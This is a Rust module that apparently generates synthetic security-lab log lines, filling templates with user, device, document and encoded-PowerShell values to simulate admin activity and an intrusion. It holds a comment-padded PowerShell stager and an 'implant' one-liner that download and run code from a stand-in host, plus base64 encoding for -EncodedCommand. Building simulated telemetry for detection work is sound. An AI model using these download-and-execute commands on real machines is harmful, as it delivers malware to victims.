//! Texts with marks in them, told apart by a salt: command lines, paths and JSON that are written only when a column is.
//!
//! A line costs eight bytes in the log, whatever its length. The marks: §u the account's name, §s its SID, §h the device's short
//! name (§H in capitals), §d a document's name, §n a number, §b a byte, §x eight hex digits, §g a GUID (§G in capitals), §e a
//! PowerShell script in base64, §1 and §3 the intruder's, §2 a line break, §4 his password, §5 twenty-eight thousand letters.
//! Marks of one line with the same letter have the same value, and lines of one activity share a salt.

use super::{Device, Person};
use crate::lab::data::chance::{at, guid, mix};
use base64::Engine as _;
use std::collections::HashMap;
use std::fmt::Write;

/// A text and the salt of its marks.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(in crate::lab::data) struct Line {
    text: u32,
    salt: u32,
}

impl Line {
    pub(in crate::lab::data) fn salted(self, salt: u32) -> Self {
        Self { salt, ..self }
    }

    pub(in crate::lab::data) fn is_empty(self) -> bool {
        self.text == 0
    }
}

/// Whose line it is.
#[derive(Clone, Copy)]
pub(in crate::lab::data) struct Voice<'a> {
    pub(in crate::lab::data) person: &'a Person,
    pub(in crate::lab::data) device: &'a Device,
}

/// Every text once. The first is the empty one.
#[derive(Debug)]
pub(in crate::lab::data) struct Texts {
    items: Vec<&'static str>,
    known: HashMap<&'static str, u32>,
    scripts: Vec<String>,
    stages: [String; 2],
}

impl Default for Texts {
    fn default() -> Self {
        let scripts = SCRIPTS.iter().map(|script| encoded(script)).collect();
        let stages = [encoded(&stager()), encoded(IMPLANT)];
        Self { items: vec![""], known: HashMap::from([("", 0)]), scripts, stages }
    }
}

impl Texts {
    pub(in crate::lab::data) fn line(&mut self, text: &'static str) -> Line {
        let fresh = u32::try_from(self.items.len()).unwrap_or(0);
        let text_id = *self.known.entry(text).or_insert(fresh);
        if text_id == fresh {
            self.items.push(text);
        }
        Line { text: text_id, salt: 0 }
    }

    pub(in crate::lab::data) fn write(&self, line: Line, voice: Voice<'_>, out: &mut impl Write) -> std::fmt::Result {
        let text = self.items.get(usize::try_from(line.text).unwrap_or(0)).copied().unwrap_or_default();
        let mut parts = text.split('§');
        out.write_str(parts.next().unwrap_or_default())?;
        parts.try_for_each(|part| self.part(part, line.salt, voice, out))
    }

    pub(in crate::lab::data) fn text(&self, line: Line, voice: Voice<'_>) -> String {
        let mut text = String::new();
        let written = self.write(line, voice, &mut text);
        debug_assert!(written.is_ok(), "a String takes everything");
        text
    }

    fn part(&self, part: &str, salt: u32, voice: Voice<'_>, out: &mut impl Write) -> std::fmt::Result {
        let mut letters = part.chars();
        if let Some(mark) = letters.next() {
            self.mark(mark, u64::from(salt), voice, out)?;
        }
        out.write_str(letters.as_str())
    }

    fn mark(&self, mark: char, salt: u64, voice: Voice<'_>, out: &mut impl Write) -> std::fmt::Result {
        match mark {
            'u' => out.write_str(voice.person.sam),
            's' => out.write_str(&voice.person.sid),
            'h' => out.write_str(voice.device.short),
            'H' => out.write_str(&voice.device.short.to_uppercase()),
            'd' => document(salt, out),
            'n' => write!(out, "{}", 1000 + mix(salt ^ 0x6e) % 9000),
            'b' => write!(out, "{}", 1 + mix(salt ^ 0x62) % 254),
            'x' => write!(out, "{:08x}", mix(salt ^ 0x78) >> 32),
            'g' => out.write_str(&guid(salt)),
            'G' => out.write_str(&guid(salt).to_uppercase()),
            'e' => out.write_str(self.scripts.get(at(mix(salt), self.scripts.len())).map_or("", String::as_str)),
            '1' => out.write_str(&self.stages[0]),
            '2' => out.write_str("\r\n"),
            '3' => out.write_str(&self.stages[1]),
            '5' => (0..2800).try_for_each(|part| write!(out, " -f {part:06}")),
            '4' => out.write_str("Q8\"u;ay\u{2028}#\u{85}1"),
            _ => Ok(()),
        }
    }
}

/// Names of documents, in the words of the trade. Some of them test what reads them: quotes, a formula, marks of writing direction.
const DOCUMENTS: [&str; 20] = [
    "Manifest",
    "Bill of lading",
    "Customs declaration",
    "Rate sheet Q3",
    "Dispatch plan",
    "Carrier contract",
    "Packing list",
    "Timesheet",
    "Fuel surcharge",
    "Damage report",
    "Tender Göteborg",
    "Berth schedule",
    "Pallet count",
    "Toll invoice",
    "Budget",
    "Route 66 & 67",
    "O'Brien claim",
    "Rate, \u{201c}final\u{201d}",
    "تصريح\u{200f} جمركي",
    "=SUM(A1;A9)",
];

fn document(salt: u64, out: &mut impl Write) -> std::fmt::Result {
    let name = DOCUMENTS.get(at(mix(salt ^ 0x64), DOCUMENTS.len())).copied().unwrap_or_default();
    write!(out, "{name} {}", 100 + mix(salt ^ 0x6f) % 900)
}

/// What the administrators run encoded, day by day.
const SCRIPTS: [&str; 4] = [
    "Get-Service | Where-Object Status -ne 'Running' | Export-Csv C:\\Windows\\Temp\\services.csv",
    "Get-CimInstance Win32_QuickFixEngineering | Select-Object HotFixID, InstalledOn",
    "$ErrorActionPreference='Stop'; Get-ChildItem C:\\inetpub\\logs -Recurse | Remove-Item -WhatIf",
    "Get-WinEvent -LogName System -MaxEvents 50 | ConvertTo-Json",
];

/// What the macro runs: padded with comments so that the command line is nearly as long as the shell takes.
fn stager() -> String {
    let padding: Vec<String> = (1..45).map(|line| format!("# {:016x}{:016x}{:016x}\n", mix(line), mix(line ^ 7), mix(line ^ 9))).collect();
    let padding = padding.concat();
    format!(
        "{padding}$u='https://cdn.quaymetrics.example/q/qsync.dat';$p=\"$env:APPDATA\\QuaySync\\qsync.exe\";iwr $u -OutFile $p;& $p --quiet --id 48213"
    )
}

/// What is run on the database server.
const IMPLANT: &str = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn.quaymetrics.example/q/s.ps1')";

/// Encodes a script as `powershell -EncodedCommand` takes it: UTF-16LE in base64.
pub(in crate::lab::data) fn encoded(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[cfg(test)]
mod tests {
    use super::super::World;
    use super::*;

    #[test]
    fn marks_are_filled_in() {
        let mut world = World::new(1);
        let line = world.texts.line(r"C:\Users\§u\§d-§n on §h").salted(3);
        let voice = Voice { person: &world.people[usize::from(world.person("mlindqvist"))], device: &world.devices[0] };
        let text = world.texts.text(line, voice);
        assert!(text.starts_with(r"C:\Users\mlindqvist\") && text.ends_with("on tf-ws-001"), "{text}");
        assert_eq!(world.texts.line(""), Line::default());
    }

    #[test]
    fn scripts_are_encoded_as_powershell_takes_them() {
        assert_eq!(encoded("dir"), "ZABpAHIA");
    }
}
